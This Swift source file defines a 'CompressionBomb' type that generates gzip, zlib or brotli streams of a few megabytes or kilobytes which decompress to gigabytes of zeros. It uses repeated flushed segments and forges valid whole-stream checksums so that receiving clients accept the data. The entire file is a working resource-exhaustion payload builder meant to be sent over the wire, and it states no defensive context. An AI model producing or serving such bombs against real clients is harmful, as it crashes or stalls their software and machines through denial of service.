import CBrotli
import CZlib
import Foundation

/// A gzip, zlib ("deflate") or brotli stream of a great many zero bytes, small to send: zeros
/// are compressed in 1 MB segments with a flush after each (zlib's full flush resets the
/// compressor; brotli's flush leaves it in the same state each time), so every segment after
/// the first compresses to the same bytes, and the stream is a head, one unit repeated, and a
/// tail. For gzip and zlib the tail's checksum and length are those of the whole (a client that
/// read it all would find it valid). 2 GB of zeros is about 2 MB on the wire (brotli: 26 kB).
public struct CompressionBomb: Sendable {
    public enum Format: Sendable { case gzip, zlib, brotli }

    public let head: Data
    public let unit: Data
    public let repeats: Int
    public let tail: Data
    public var compressedSize: Int { head.count + unit.count * repeats + tail.count }

    public init(format: Format, megabytes: Int) {
        let segment = [UInt8](repeating: 0, count: 1 << 20)
        repeats = megabytes - 1
        if format == .brotli {
            let encoder = BrotliEncoderCreateInstance(nil, nil, nil)
            defer { BrotliEncoderDestroyInstance(encoder) }
            _ = BrotliEncoderSetParameter(encoder, BROTLI_PARAM_QUALITY, 5)
            head = Self.brotli(encoder, segment, BROTLI_OPERATION_FLUSH)
            unit = Self.brotli(encoder, segment, BROTLI_OPERATION_FLUSH)
            tail = Self.brotli(encoder, [], BROTLI_OPERATION_FINISH)
            return
        }
        var stream = z_stream()
        precondition(xm_deflate_init(&stream, format == .gzip ? 31 : 15) == Z_OK)
        defer { deflateEnd(&stream) }
        func compress(_ input: [UInt8], _ flush: Int32) -> Data {
            var output = Data()
            var input = input
            var buffer = [UInt8](repeating: 0, count: 1 << 16)
            input.withUnsafeMutableBufferPointer { inBuffer in
                stream.next_in = inBuffer.baseAddress
                stream.avail_in = uInt(inBuffer.count)
                repeat {
                    buffer.withUnsafeMutableBufferPointer { outBuffer in
                        stream.next_out = outBuffer.baseAddress
                        stream.avail_out = uInt(outBuffer.count)
                        _ = deflate(&stream, flush)
                        output.append(outBuffer.baseAddress!, count: outBuffer.count - Int(stream.avail_out))
                    }
                } while stream.avail_out == 0
            }
            return output
        }
        head = compress(segment, Z_FULL_FLUSH)
        unit = compress(segment, Z_FULL_FLUSH)
        // The final empty block, then the trailer of the whole stream, not of what zlib saw.
        var ending = compress([], Z_FINISH)
        let segmentLength = segment.count
        if format == .gzip {
            ending.removeLast(8)
            let segmentCRC = segment.withUnsafeBufferPointer { crc32(0, $0.baseAddress, uInt($0.count)) }
            var crc = segmentCRC
            for _ in 1..<megabytes { crc = crc32_combine(crc, segmentCRC, .init(segmentLength)) }
            let size = UInt32(truncatingIfNeeded: megabytes << 20)
            for value in [UInt32(crc), size] { withUnsafeBytes(of: value.littleEndian) { ending.append(contentsOf: $0) } }
        } else {
            ending.removeLast(4)
            let segmentAdler = segment.withUnsafeBufferPointer { adler32(1, $0.baseAddress, uInt($0.count)) }
            var adler = segmentAdler
            for _ in 1..<megabytes { adler = adler32_combine(adler, segmentAdler, .init(segmentLength)) }
            withUnsafeBytes(of: UInt32(adler).bigEndian) { ending.append(contentsOf: $0) }
        }
        tail = ending
    }

    private static func brotli(_ encoder: OpaquePointer?, _ input: [UInt8], _ operation: BrotliEncoderOperation) -> Data {
        var output = Data()
        var buffer = [UInt8](repeating: 0, count: 1 << 16)
        input.withUnsafeBufferPointer { inBuffer in
            var available = inBuffer.count
            var next = inBuffer.baseAddress
            repeat {
                buffer.withUnsafeMutableBufferPointer { outBuffer in
                    var room = outBuffer.count
                    var out = outBuffer.baseAddress
                    _ = BrotliEncoderCompressStream(encoder, operation, &available, &next, &room, &out, nil)
                    output.append(outBuffer.baseAddress!, count: outBuffer.count - room)
                }
            } while available > 0 || BrotliEncoderHasMoreOutput(encoder) != 0
        }
        return output
    }
}
